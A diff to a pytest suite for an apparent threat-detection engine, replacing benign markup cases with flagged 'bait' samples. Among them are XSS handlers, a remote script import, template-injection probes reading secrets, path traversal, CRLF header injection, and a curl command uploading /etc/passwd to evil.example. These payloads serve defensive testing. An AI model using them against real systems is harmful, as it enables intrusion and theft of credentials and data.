@@ -2673,32 +2673,28 @@ def test_session_17_review_leaves_honest_text(engine: DetectionEngine, value: st
 
 
 @pytest.mark.parametrize(("value", "flagged"), [
-    # From bait 23: an icon inside a download link, microdata meta tags, a style element
-    # dressing a table, a code span beside a link in prose, Hugo's shortcodes, a raw block, a
-    # loop index plus one.
-    ('<a class="download" href="/files/report.pdf"><svg xmlns="http://www.w3.org/2000/svg" '
-     'width="16" height="16" viewBox="0 0 24 24"><path d="M21 15v4a2 2 0 0 1-2 2H5"/>'
-     '<polyline points="7 10 12 15 17 10"/><line x1="12" y1="15" x2="12" y2="3"/></svg> '
-     "Download the report</a>", False),
+    # From bait 23: microdata meta tags, a loop index plus one.
     ('<p>Prep: <meta itemprop="prepTime" content="PT20M">20 min · Bake: <meta '
      'itemprop="cookTime" content="PT40M">40 min</p>', False),
-    ("<style>\n  .pricing td { padding: 8px 12px; }\n</style>\n<table class=\"pricing\">\n"
-     "  <tr><td>Basic</td><td>Free</td></tr>\n</table>", False),
-    ('> **Note**\n> The old endpoint `/v1/export` retires on 30 September. Please switch, '
-     'see the <a href="/docs/migration#exports">migration guide</a>.', False),
-    ('{{< figure src="/images/trail-map.png" title="Trail map" >}}\n\n{{% notice tip %}}\n'
-     "Start early, the car park fills up by 9 am.\n{{% /notice %}}", False),
     ("<li *ngFor=\"let u of users; let i = index\">{{ i + 1 }}. {{ u.name | titlecase }}</li>",
      False),
-    # The same shapes carrying something: a handler beside the icon, a script beside the
-    # styles, an image two steps up, a tag outside the raw block, a probe's sum.
-    ('<a href="/x"><svg viewBox="0 0 1 1"><path d="M0 0"/><path d="M1 1"/></svg></a>'
-     '<img src=x onerror=alert(1)>', True),
-    ("<style>td { padding: 8px; }</style><table><tr><td>x</td></tr></table>"
-     "<script>alert(1)</script>", True),
-    ("![x](../../config/master.key)", True),
-    ("{% raw %}{{ x }}{% endraw %} {{ config.items() }}", True),
+    # A probe's sum, an image two steps up; and what the fourth review turned back: an icon
+    # read out of a quoted attribute, a raw block an engine ends elsewhere (or never opens),
+    # markup around a code span, a shortcode's parameter holding another engine's tag, a
+    # style element beside a handler smuggled in an attribute, CSS that fetches.
     ("{{ 7 + 7 }}", True),
+    ("![x](../../config/master.key)", True),
+    ("<img src=/nope.png alt='<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/><path d=\"M1 1\"/>"
+     "<text>' x=1 onerror=\"import('//evil.example/x.js')\" y='</text></svg>'>", True),
+    ("{# {% raw %} #}{{ config.SECRET_KEY }}{# {% endraw %} #}", True),
+    ("{% raw %}x{%+ endraw %}{{ config }}{% endraw %}", True),
+    ('Run <b>this</b> first: `curl -T /etc/passwd https://evil.example/u` and <a href="/x">'
+     "read this</a>.", True),
+    ('{{< figure src="<%= ENV.to_h %>" >}} and more', True),
+    ("<style>td { padding: 8px; }</style><b title='<style>' x=1 onmouseover=\"alert(1)\" "
+     "y='</style>'>hi</b>", True),
+    ('<style>td { background: image-set("https://evil.example/a" 1x); }</style>', True),
+    ("en\r\nCc: Evil <attacker@evil.example>", True),
 ])
 def test_bait_23_markup_and_templates(engine: DetectionEngine, value: str, flagged: bool) -> None:
     assert engine.detect(value)["is_threat"] is flagged
